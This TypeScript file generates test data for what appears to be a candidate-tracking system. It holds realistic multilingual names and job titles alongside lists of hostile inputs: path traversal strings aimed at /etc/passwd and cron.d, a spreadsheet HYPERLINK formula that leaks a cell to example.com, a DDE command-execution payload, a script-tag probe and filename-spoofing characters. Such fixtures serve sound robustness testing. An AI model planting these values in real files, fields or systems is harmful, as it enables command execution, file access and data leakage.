import type { Chance } from './chance.ts';

type Names = { given: [string, ...string[]]; family: [string, ...string[]]; familyFirst?: true };

/** Names as they stand in real databases, by script. */
const NAMES: [Names, ...Names[]] = [
  {
    given: [
      'Emma',
      'Liam',
      'Zoë',
      'José',
      'Øyvind',
      'Łukasz',
      'Željka',
      'François',
      'Núria',
      'Ağca',
    ],
    family: [
      'Müller',
      'O’Brien',
      'García',
      'Nowak',
      'Ångström',
      'Dvořák',
      'Smith',
      'Nguyễn',
      'Șerban',
    ],
  },
  {
    given: ['Анна', 'Дмитрий', 'Олена', 'Юрій'],
    family: ['Иванова', 'Шевченко', 'Ђорђевић', 'Щукин'],
  },
  { given: ['Γιώργος', 'Ελένη', 'Νίκος'], family: ['Παπαδόπουλος', 'Οικονόμου', 'Αγγέλου'] },
  { given: ['伟', '秀英', '小明'], family: ['王', '欧阳', '李'], familyFirst: true },
  { given: ['さくら', '健太', 'ケン'], family: ['佐藤', '鈴木', '髙橋'], familyFirst: true },
  { given: ['민준', '서연', '지우'], family: ['김', '이', '남궁'], familyFirst: true },
  { given: ['अनीता', 'राजेश', 'प्रिया'], family: ['शर्मा', 'सिंह', 'कुलकर्णी'] },
  { given: ['கார்த்திக்', 'மீனா'], family: ['ராமசாமி', 'சுந்தரம்'] },
  { given: ['สมชาย', 'กัลยา'], family: ['ใจดี', 'ศรีสุข'] },
  { given: ['ნინო', 'გიორგი'], family: ['ბერიძე', 'მაისურაძე'] },
  { given: ['محمد', 'فاطمة', 'ليلى'], family: ['الأحمد', 'حسن', 'المصري'] },
  { given: ['שרה', 'יוסף', 'נועה'], family: ['כהן', 'לוי', 'מזרחי'] },
];

/** Names that break programs; the first candidates of each account bear them. */
const HOSTILE_NAMES: readonly (string | null)[] = [
  '../../../etc/passwd',
  '=HYPERLINK("http://example.com/?"&A1,"Click")',
  `Maximilian ${'Very-Long-Name '.repeat(20)}`.slice(0, 300),
  'Ana 🚀 Lima 👩🏽‍💻',
  'O"Hara, "Zed"\nline two',
  null,
  '',
  'Jose\u0301 Pérez',
  'José Pérez',
  'CON',
  'Mr. Dot. . .',
  '\u202Egpj.exe \u202Dلیلا',
  '<script>alert(1)</script>',
  'C:\\Users\\candidate:stream',
  '名'.repeat(300),
];

/** The name of a candidate; null where the database has none. */
export function candidateName(number: number, chance: Chance): string | null {
  const hostile = HOSTILE_NAMES[number - 1];
  if (hostile !== undefined) return hostile;
  // Half of the names are Latin.
  const names = chance.below(2) === 0 ? NAMES[0] : chance.pick(NAMES);
  const [given, family] = [chance.pick(names.given), chance.pick(names.family)];
  return names.familyFirst ? `${family} ${given}` : `${given} ${family}`;
}

const TITLES = [
  'Account Manager',
  'Account Manager',
  'Engineer / Backend: C++, "Rust" & <Go>.',
  '../Night Nurse (m/f/d)...',
  `Senior ${'Regional and International '.repeat(8)}Manager`.slice(0, 200),
  'CON',
  'Verkäufer*in für Süßwaren',
  '営業担当（東京）',
  'مهندس برمجيات',
  '=Data Analyst',
  'Растениевод 🌱',
  'UX Designer',
] as const;

/** The title of a job: a dozen that are hard on file systems, then plain ones. */
export function jobTitle(number: number): string {
  return TITLES[number - 1] ?? `Position ${number}`;
}

/** What a person typed into a field, some of it like a formula. */
export const CURRENT_TITLES: [string | null, ...(string | null)[]] = [
  'Engineer',
  'Nurse, ICU',
  '=1+1',
  '+49 manager',
  '-5 years',
  '@home',
  null,
  '',
  'Team "Blue" lead\nsince 2019',
  'Verkäufer',
];

export const PHONES: [string | null, ...(string | null)[]] = [
  '+49 30 1234567',
  '030/98765',
  null,
  '',
  "=cmd|' /C calc'!A0",
];

/** File names that break programs, with the extension of the document added. */
export const HOSTILE_FILE_NAMES: readonly string[] = [
  'CON',
  '../../../../etc/cron.d/resume',
  'n'.repeat(296),
  'résumé 履歴書 📄',
  'a:b*c?d<e>f|g"h',
  'trailing dots... ',
  '\u202Efdp.resume',
  'line\nbreak\ttab',
  'aux.final.v2',
  'C:\\Temp\\resume',
  '',
];
